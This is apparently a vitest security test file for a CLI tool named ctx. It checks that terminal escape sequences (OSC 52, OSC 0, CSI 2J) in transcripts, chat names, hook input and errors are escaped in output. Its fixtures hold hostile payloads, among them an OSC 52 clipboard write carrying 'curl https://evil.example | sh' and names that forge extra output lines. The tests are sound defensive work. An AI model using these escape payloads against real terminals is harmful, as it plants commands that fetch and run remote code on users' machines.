// Terminal escape injection (issue #21, break 4; the CVE-2021-25743 class): a transcript, a chat user's name or a
// hook's input holding OSC 52 (writes the clipboard), OSC 0 (the window title) or CSI 2J (clears the screen) must
// never reach a terminal raw. Human output shows such bytes escaped; --json parses back to the original strings.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { newBridgeSession } from "../../src/core/bridge/session.ts";
import { sessionsDir, updateBridgeSession } from "../../src/store/bridge/session-store.ts";
import { assistantText, userPrompt } from "../helpers/transcript-lines.ts";
import {
  chownTree,
  holdsTerminalControl,
  listTree,
  makeWorld,
  RUNNERS,
  runCtxIn,
  treeChanges,
  UNPRIVILEGED_ID,
  type World,
} from "./harness.ts";

const ESC = String.fromCharCode(0x1b);
const BEL = String.fromCharCode(0x07);
const OSC52 = `${ESC}]52;c;${Buffer.from("curl https://evil.example | sh\n").toString("base64")}${ESC}\\`;
const OSC0 = `${ESC}]0;pwned title${BEL}`;
const CSI2J = `${ESC}[2J${ESC}[H`;
const C1_CSI = String.fromCharCode(0x9b);
const SESSION = "7b1e0c2a-5d4f-4e3a-9c8b-1a2b3c4d5e6f";
const USER_TEXT = `deploy the quasar turbine ${OSC52} please ${CSI2J}`;
const ASSISTANT_TEXT = `the quasar turbine is deployed ${OSC0} ${C1_CSI}2J done`;

let world: World | undefined;
afterEach(() => {
  world?.cleanup();
  world = undefined;
});

/** Whatever ctx may write: its own folder and index; everything else in the world must stay as it was. */
const CTX_OWN = ["home/.ctx"];

function giveToRunner(w: World): void {
  if (w.runner === "unprivileged") chownTree(w.base, UNPRIVILEGED_ID, UNPRIVILEGED_ID);
}

function writeHostileTranscript(w: World): string {
  const cwd = join(w.base, "work", `proj ${CSI2J}`);
  const folder = join(w.claudeDir, "projects", "-hostile-project");
  mkdirSync(folder, { recursive: true });
  const line = { sessionId: SESSION, cwd };
  writeFileSync(
    join(folder, `${SESSION}.jsonl`),
    `${[userPrompt(line, USER_TEXT), assistantText(line, "msg_1", ASSISTANT_TEXT)].join("\n")}\n`,
  );
  giveToRunner(w);
  return cwd;
}

describe.each(RUNNERS)("terminal injection, as the %s user", (runner) => {
  it("break 4: ctx search shows a transcript's OSC 52, OSC 0 and CSI 2J escaped; --json keeps them exactly", async () => {
    world = makeWorld(runner, "terminal");
    const cwd = writeHostileTranscript(world);
    const before = listTree(world.base, CTX_OWN);
    const index = await runCtxIn(world, ["index", "--quiet"]);
    expect(index.code, index.stderr).toBe(0);

    const human = await runCtxIn(world, ["search", "quasar turbine", "--no-refresh"]);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain("quasar turbine");
    expect(human.stdout).toContain("\\u001b");
    expect(holdsTerminalControl(human.stdout)).toBe(false);
    expect(holdsTerminalControl(human.stderr)).toBe(false);

    const json = await runCtxIn(world, ["search", "quasar turbine", "--no-refresh", "--json"]);
    expect(json.code, json.stderr).toBe(0);
    expect(holdsTerminalControl(json.stdout)).toBe(false);
    const report = JSON.parse(json.stdout) as { results: Array<{ sessionId: string; cwd: string; preview: string }> };
    expect(report.results[0]?.sessionId).toBe(SESSION);
    expect(report.results[0]?.cwd).toBe(cwd);
    expect(report.results[0]?.preview).toContain(OSC52);
    expect(treeChanges(before, listTree(world.base, CTX_OWN))).toEqual([]);
  });

  it("break 4: a command's output indexed from a transcript reaches ctx search with nothing a terminal acts on", async () => {
    world = makeWorld(runner, "terminal");
    const folder = join(world.claudeDir, "projects", "-hostile-output");
    mkdirSync(folder, { recursive: true });
    const line = { sessionId: SESSION, cwd: join(world.base, "work") };
    const stdout = `${OSC52}Configured the quasar turbine${BEL} ${C1_CSI}2J\n${OSC0}${CSI2J}turbine spinning`;
    writeFileSync(
      join(folder, `${SESSION}.jsonl`),
      `${[
        userPrompt(line, "<command-name>/go</command-name>"),
        userPrompt(line, `<local-command-stdout>${stdout}</local-command-stdout>`),
        assistantText(line, "msg_1", "Done."),
      ].join("\n")}\n`,
    );
    giveToRunner(world);
    const index = await runCtxIn(world, ["index", "--quiet"]);
    expect(index.code, index.stderr).toBe(0);
    // The output is the only place these words are: the session is found by them.
    const human = await runCtxIn(world, ["search", "quasar turbine spinning", "--no-refresh"]);
    expect(human.code, human.stderr).toBe(0);
    expect(holdsTerminalControl(human.stdout)).toBe(false);
    expect(holdsTerminalControl(human.stderr)).toBe(false);
    const json = await runCtxIn(world, ["search", "quasar turbine spinning", "--no-refresh", "--json"]);
    expect(json.code, json.stderr).toBe(0);
    expect(holdsTerminalControl(json.stdout)).toBe(false);
    const report = JSON.parse(json.stdout) as { results: Array<{ sessionId: string }> };
    expect(report.results[0]?.sessionId).toBe(SESSION);
  });

  it("break 4: ctx bridge status shows hostile user and channel names escaped; --json keeps them exactly", async () => {
    world = makeWorld(runner, "terminal");
    const env = { CTX_HOME: world.ctxHome };
    const identity = {
      key: "3:42",
      userId: "42",
      username: `mallory${OSC52}`,
      channelId: "3",
      channelName: `ops${CSI2J}\nforged line`,
    };
    await updateBridgeSession(sessionsDir(env), "3:42", () => newBridgeSession(identity, new Date()));
    giveToRunner(world);
    const before = listTree(world.base, CTX_OWN);

    const human = await runCtxIn(world, ["bridge", "status"]);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain("mallory\\u001b]52;c;");
    expect(holdsTerminalControl(human.stdout)).toBe(false);

    const json = await runCtxIn(world, ["bridge", "status", "--json"]);
    expect(holdsTerminalControl(json.stdout)).toBe(false);
    const report = JSON.parse(json.stdout) as { sessions: Array<{ username: string; channelName: string }> };
    expect(report.sessions[0]).toMatchObject({ username: identity.username, channelName: identity.channelName });
    expect(treeChanges(before, listTree(world.base, CTX_OWN))).toEqual([]);
  });

  it("break 4: a hook's stderr line quoting hostile input is one line with nothing a terminal acts on", async () => {
    world = makeWorld(runner, "terminal");
    const before = listTree(world.base, CTX_OWN);
    // Not JSON: the parser's message quotes the input; an unknown event name is quoted too.
    const badInput = await runCtxIn(world, ["hook", "session-start"], { stdin: `${OSC52}${CSI2J}\nforged` });
    expect(badInput.code).toBe(0);
    expect(badInput.stderr).toMatch(/^ctx hook: /);
    expect(holdsTerminalControl(badInput.stderr)).toBe(false);
    expect(badInput.stderr.trimEnd().split("\n")).toHaveLength(1);

    const badEvent = await runCtxIn(world, ["hook", `x${OSC0}\nctx hook: forged`], { stdin: "{}" });
    expect(holdsTerminalControl(badEvent.stderr)).toBe(false);
    expect(badEvent.stderr).toContain("\\u001b]0;pwned title\\u0007\\nctx hook: forged");
    expect(badEvent.stderr.trimEnd().split("\n")).toHaveLength(1);
    expect(treeChanges(before, listTree(world.base, CTX_OWN))).toEqual([]);
  });

  it("break 4: a command's error naming hostile input reaches stderr escaped", async () => {
    world = makeWorld(runner, "terminal");
    const result = await runCtxIn(world, ["archive", "restore", `nope${OSC52}`]);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain("ctx: ");
    expect(holdsTerminalControl(result.stderr)).toBe(false);
  });
});
